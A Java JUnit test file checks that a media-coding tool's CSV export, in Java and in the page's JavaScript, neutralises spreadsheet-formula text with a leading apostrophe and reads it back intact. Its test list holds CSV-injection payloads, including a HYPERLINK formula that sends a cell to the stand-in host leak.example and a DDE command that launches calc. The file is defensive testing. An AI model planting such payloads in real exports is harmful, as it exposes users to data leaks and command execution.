package org.framelens.common.validate;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Crawled text that a spreadsheet would run as a formula: neutralised with a leading {@code '} in
 * the sheet {@code validate sample} writes and in the one the coding page saves, and read back
 * unchanged by {@code validate score}.
 */
class CsvFormulaInjectionTest {
  static final Path NODE = Path.of("/usr/bin/node");

  @TempDir Path tmp;

  /** Texts a spreadsheet takes for formulas (or that are one {@code '} away from looking so). */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"https://leak.example/?\"&A1,\"open\")",
          "+972 2 555 0100",
          "-5",
          "@SUM(1+1)",
          "\t=1+1",
          "\r=1+1",
          "  =cmd|' /C calc'!A0",
          "\n@everyone",
          "'=already quoted by hand",
          "''+twice");

  /** Texts that stay as they are. */
  static final List<String> HARMLESS =
      List.of("Police said the cell was broken up.", "'tis the season", "5-3", "a=b", "");

  static SheetItem item(String id, String text) {
    return new SheetItem(
        id,
        "paragraph",
        "a-" + id,
        text.isBlank() ? "https://example.org/" + id : text.strip(),
        text.strip(),
        "en",
        "body",
        "",
        text,
        text,
        0,
        text.length(),
        "",
        text,
        "",
        "",
        "",
        text);
  }

  static List<SheetItem> items() {
    List<SheetItem> items = new ArrayList<>();
    int n = 0;
    for (String t : HOSTILE) {
      items.add(item("x" + n++, t));
    }
    for (String t : HARMLESS) {
      items.add(item("x" + n++, t));
    }
    return items;
  }

  private static List<CSVRecord> rawCells(String csv) throws IOException {
    try (CSVParser p = CSVParser.parse(csv, CSVFormat.RFC4180)) {
      return p.getRecords();
    }
  }

  @Test
  void theSheetWritesEveryCellASpreadsheetWouldRunAsAFormulaWithALeadingApostrophe()
      throws IOException {
    String csv = CodingSheet.toCsv(items());
    List<CSVRecord> rows = rawCells(csv);

    for (int i = 0; i < HOSTILE.size(); i++) {
      CSVRecord row = rows.get(1 + i);
      // term, matched text, context and note carry the text; url and outlet its stripped form
      for (int col : new int[] {8, 9, 13, 17}) {
        assertThat(row.get(col)).isEqualTo("'" + HOSTILE.get(i));
      }
      assertThat(row.get(3)).isEqualTo("'" + HOSTILE.get(i).strip());
      assertThat(row.get(4)).isEqualTo("'" + HOSTILE.get(i).strip());
    }
    for (int i = 0; i < HARMLESS.size(); i++) {
      assertThat(rows.get(1 + HOSTILE.size() + i).get(13)).isEqualTo(HARMLESS.get(i));
    }
    // no cell of the file starts a formula, not even after leading blanks
    for (CSVRecord row : rows) {
      for (String cell : row) {
        assertThat(cell).doesNotMatch("(?s)^[=+\\-@\\t\\r].*").doesNotMatch("(?s)^\\s+[=+\\-@].*");
      }
    }
  }

  @Test
  void readingTheSheetBackGivesEveryTextExactlyAsItWas() {
    List<SheetItem> items = items();
    List<SheetItem> back = CodingSheet.read(new StringReader(CodingSheet.toCsv(items)), "s.csv");
    assertThat(back).isEqualTo(items);
  }

  @Test
  void anApostropheACoderTypedBeforeAnOrdinaryTextIsKept() {
    assertThat(CodingSheet.restore("'tis")).isEqualTo("'tis");
    assertThat(CodingSheet.restore("'-5")).isEqualTo("-5");
    assertThat(CodingSheet.restore("''-5")).isEqualTo("'-5");
  }

  /** The page's own CSV functions, cut out of the rendered page, run by Node. */
  @Test
  void theCodingPagesSaveCsvNeutralisesTheSameCellsAndItsLoadRestoresThem() throws Exception {
    Assumptions.assumeTrue(Files.isExecutable(NODE), "no " + NODE);
    String page = CodingPage.render(items(), List.of("terrorism"), "s.csv");
    String functions =
        between(page, "  // Crawled text a spreadsheet", "  function toCsv()")
            + between(page, "  function parseCsv(text)", "  function save()");
    StringBuilder inputs = new StringBuilder("[");
    for (String t : concat(HOSTILE, HARMLESS)) {
      inputs.append(inputs.length() > 1 ? "," : "").append(CodingPage.string(t));
    }
    inputs.append("]");
    // one row per text: the text in every column, as the page writes rows; then loaded back
    String script =
        functions
            + "\nconst texts = "
            + inputs
            + ";\nconst csv = texts.map((t) => [t, t].map((v) => csvCell(String(v))).join(','))"
            + ".join('\\r\\n') + '\\r\\n';\n"
            + "process.stdout.write(JSON.stringify({csv, loaded: parseCsv(csv)}));\n";
    Path js = tmp.resolve("csv.js");
    Files.writeString(js, script, StandardCharsets.UTF_8);
    Process p =
        new ProcessBuilder(NODE.toString(), js.toString())
            .redirectError(ProcessBuilder.Redirect.INHERIT)
            .start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(p.exitValue()).isZero();

    var json = CodingPageChromiumTest.JSON.readTree(out);
    List<CSVRecord> written = rawCells(json.get("csv").asText());
    List<String> texts = concat(HOSTILE, HARMLESS);
    for (int i = 0; i < texts.size(); i++) {
      // the page writes the cell the Java sheet writes, and loads the text back
      assertThat(written.get(i).get(0)).isEqualTo(CodingSheet.neutralise(texts.get(i)));
      assertThat(json.get("loaded").get(i).get(0).asText()).isEqualTo(texts.get(i));
    }
    for (int i = 0; i < HOSTILE.size(); i++) {
      assertThat(written.get(i).get(1)).startsWith("'");
    }
  }

  private static List<String> concat(List<String> a, List<String> b) {
    List<String> all = new ArrayList<>(a);
    all.addAll(b);
    return all;
  }

  private static String between(String s, String from, String to) {
    Matcher m =
        Pattern.compile(Pattern.quote(from) + "(.*?)" + Pattern.quote(to), Pattern.DOTALL)
            .matcher(s);
    assertThat(m.find()).as("the page has " + from.strip()).isTrue();
    return from + m.group(1);
  }
}
